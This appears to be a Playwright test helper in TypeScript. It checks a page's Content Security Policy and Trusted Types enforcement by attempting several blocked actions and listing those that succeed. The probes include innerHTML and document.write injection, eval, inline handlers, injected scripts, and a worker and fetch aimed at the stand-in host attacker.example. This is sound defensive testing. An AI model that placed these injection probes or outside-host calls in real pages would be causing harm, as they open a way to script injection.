import type { Page } from '@playwright/test'

/** What a page lets pass of that which its policy is to refuse: a word each, so that none is what it should be. */
export function letPass(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const passes: string[] = []
    // What a test starts may evaluate text; what comes after it, as all of a page does, may not.
    await new Promise((wake) => setTimeout(wake, 10))
    const attempt = async (what: string, act: () => unknown) => {
      try {
        if ((await act()) !== false) passes.push(what)
      } catch {
        return
      }
    }
    const canary = window as unknown as { ran?: boolean }
    await attempt('markup from text', () => {
      document.createElement('div').innerHTML = '<b>x</b>'
    })
    await attempt('a document from text', () => document.write('<b>x</b>'))
    await attempt('text evaluated', () => (0, eval)('1'))
    await attempt('a function from text', () => new Function('return 1'))
    await attempt('a handler from text', () =>
      document.createElement('a').setAttribute('onclick', 'ran = true'),
    )
    await attempt('a script from text', async () => {
      const script = document.createElement('script')
      script.append('window.ran = true')
      document.head.append(script)
      await new Promise((wake) => setTimeout(wake, 50))
      return canary.ran === true
    })
    await attempt('a worker from a blob', () => {
      const address = URL.createObjectURL(new Blob(['1']))
      return new Worker(address)
    })
    await attempt('a worker of another origin', () => new Worker('https://attacker.example/w.js'))
    await attempt('a request to another origin', () => fetch('https://attacker.example/'))
    await attempt('a policy of another name', () =>
      window.trustedTypes!.createPolicy('attacker', { createHTML: (text) => text }),
    )
    return passes
  })
}
